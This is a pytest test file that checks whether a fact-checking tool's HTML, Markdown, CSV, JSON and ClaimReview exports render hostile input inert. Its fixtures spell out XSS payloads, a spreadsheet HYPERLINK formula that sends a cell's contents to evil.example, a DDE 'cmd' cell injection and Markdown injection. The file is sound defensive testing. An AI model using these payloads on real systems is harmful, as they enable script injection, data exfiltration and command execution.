"""Hostile articles, sources, notes and reviewer names come out inert in every format."""

from __future__ import annotations

import csv
import io
import json
import re
from html.parser import HTMLParser

import pytest
from markdown_it import MarkdownIt

from factcheck.review import verdicts as review
from factcheck.export import FORMATS, write_report
from factcheck.models import ArticleMeta, Claim

SCRIPT = '<script>alert("x")</script>'
IMG = "<img src=x onerror=alert(1)>"
MD_LINK = "[click me](javascript:alert(1))"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
QUOTE = f'“{SCRIPT} {IMG} {MD_LINK}”'
TEXT = (f"Officials said {QUOTE} on Monday.\n\n# Not a heading\n\n"
        "<iframe src=https://evil.example></iframe> Turnout rose 4 percent.")
NOTE = (f"{FORMULA}\n# Heading injected\n{SCRIPT}\n{MD_LINK}\n- list item\n"
        f"1. ordered\n\t@SUM(1+1)\r\n+cmd|' /C calc'!A0\n{IMG}\n---\n> quoted\n&lt;b&gt;")
REVIEWER = "<b>mallory</b>"


@pytest.fixture
def hostile(store):
    q = TEXT.index(QUOTE)
    n = TEXT.index("4 percent")
    article_id, _ = store.add_article(TEXT, ArticleMeta(
        title=f"{SCRIPT} {MD_LINK} {FORMULA}", url="javascript:alert(1)",
        published="2025-09-11"), [
        Claim("quote", QUOTE, q, q + len(QUOTE), sentence=TEXT.split("\n")[0],
              speaker=FORMULA, speaker_role=IMG),
        Claim("number", "4 percent", n, n + 9, sentence=f"{SCRIPT}\nTurnout", value=4.0,
              unit=f"{IMG}"),
    ])
    quote_id, number_id = [c.id for c in store.iter_claims()]
    review.set_verdict(store, quote_id, "disputed", REVIEWER)
    review.set_verdict(store, number_id, "verified", "-2+3")
    review.add_source(store, quote_id, "https://example.org/a?b=<c>&d=\"e\"", REVIEWER,
                      title=f"{IMG} {MD_LINK}", excerpt=f"{SCRIPT}\n{FORMULA}")
    with store.transaction():  # a row no factcheck command would write: still inert
        store.insert_source({"claim_id": quote_id, "url": "javascript:alert(1)",
                             "title": "<a href=javascript:alert(1)>x</a>", "excerpt": None,
                             "retrieved_at": None, "added_by": "@evil",
                             "added_at": "2025-09-12T00:00:00.000Z"})
    review.add_note(store, quote_id, NOTE, REVIEWER)
    review.add_note(store, number_id, f"{FORMULA}\r\nsecond line", "+plus")
    return store


def render(store, fmt: str) -> str:
    out = io.StringIO(newline="")
    extra = {"site_url": "https://desk.example/r.html"} if fmt == "claimreview" else {}
    write_report(store, fmt, out, **extra)
    return out.getvalue()


class Tags(HTMLParser):
    """Every tag and attribute a browser would see."""

    def __init__(self):
        super().__init__()
        self.tags: list[tuple[str, dict]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))


SAFE_TAGS = {"html", "head", "meta", "title", "style", "body", "main", "header", "h1", "h2",
             "h3", "p", "div", "b", "span", "table", "tr", "th", "td", "a", "section", "dl",
             "dt", "dd", "svg", "rect", "text", "article", "blockquote", "ul", "li", "footer"}


MARKDOWN_TAGS = {"html", "body", "h1", "h2", "h3", "h4", "p", "ul", "li", "strong", "a",
                 "blockquote", "br"}


def assert_inert_html(html: str, allowed: set[str] = SAFE_TAGS) -> None:
    parser = Tags()
    parser.feed(html)
    for tag, attrs in parser.tags:
        assert tag in allowed, tag
        assert not any(name.startswith("on") for name in attrs), (tag, attrs)
        href = attrs.get("href")
        assert href is None or href.startswith("#") or re.match(r"https?://", href), href
    assert "javascript:alert" not in " ".join(a.get("href", "") for _, a in parser.tags)


def test_html_is_inert(hostile):
    html = render(hostile, "html")
    assert_inert_html(html)
    assert "&lt;script&gt;" in html and "&lt;img src=x onerror=alert(1)&gt;" in html
    assert "&lt;b&gt;mallory&lt;/b&gt;" in html
    assert "javascript:alert(1)" in html  # shown as text, never as a link


def test_markdown_is_inert_when_rendered(hostile):
    md = render(hostile, "md")
    html = MarkdownIt("commonmark", {"html": True}).render(md)  # as a code host would
    assert_inert_html("<html><body>" + html + "</body></html>", MARKDOWN_TAGS)
    headings = re.findall(r"<h(\d)>(.*?)</h\1>", html)
    assert [h for h, _ in headings] == ["1", "2", "3", "4", "4"]  # only ours
    assert html.count("<blockquote>") == 2  # the two claims' sentences, not the note's "> "
    # header 6; quote: speaker, verdict, sources + 2, notes + 1; number: value, verdict,
    # notes + 1. The note's "- list item" and "1. ordered" stay text.
    assert html.count("<li>") == 6 + 7 + 4
    assert "- list item" in html and "1. ordered" in html
    assert "&lt;script&gt;" in html and "Heading injected" in html


def test_csv_cells_cannot_become_formulas_or_rows(hostile):
    text = render(hostile, "csv")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert len(rows) == 3 and all(len(r) == len(rows[0]) for r in rows)
    for row in rows:
        for value in row:
            assert "\n" not in value and "\r" not in value
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
    quote = rows[1]
    assert quote[rows[0].index("speaker")] == "'" + FORMULA
    assert quote[rows[0].index("reviewer")] == REVIEWER
    assert rows[2][rows[0].index("reviewer")] == "'-2+3"
    assert rows[2][rows[0].index("notes")].startswith("'+plus: =HYPERLINK")


def test_json_keeps_hostile_text_exactly_as_data(hostile):
    doc = json.loads(render(hostile, "json"))
    article = doc["articles"][0]
    assert article["title"].startswith(SCRIPT) and article["text"] == TEXT
    quote = article["claims"][0]
    assert quote["notes"][0]["body"] == NOTE and quote["speaker"] == FORMULA


def test_claimreview_is_safe_inside_a_script_element(hostile):
    raw = render(hostile, "claimreview")
    assert "<" not in raw and ">" not in raw and "&" not in raw
    reviews = json.loads(raw)
    assert reviews[0]["claimReviewed"].startswith(SCRIPT)
    appearance = reviews[0]["itemReviewed"]["appearance"]
    assert "url" not in appearance  # javascript: is not a web address
    assert reviews[0]["itemReviewed"]["author"]["name"] == FORMULA


@pytest.mark.parametrize("fmt", list(FORMATS))
def test_every_format_survives_hostile_input(hostile, fmt):
    out = render(hostile, fmt)
    assert out and "\x00" not in out
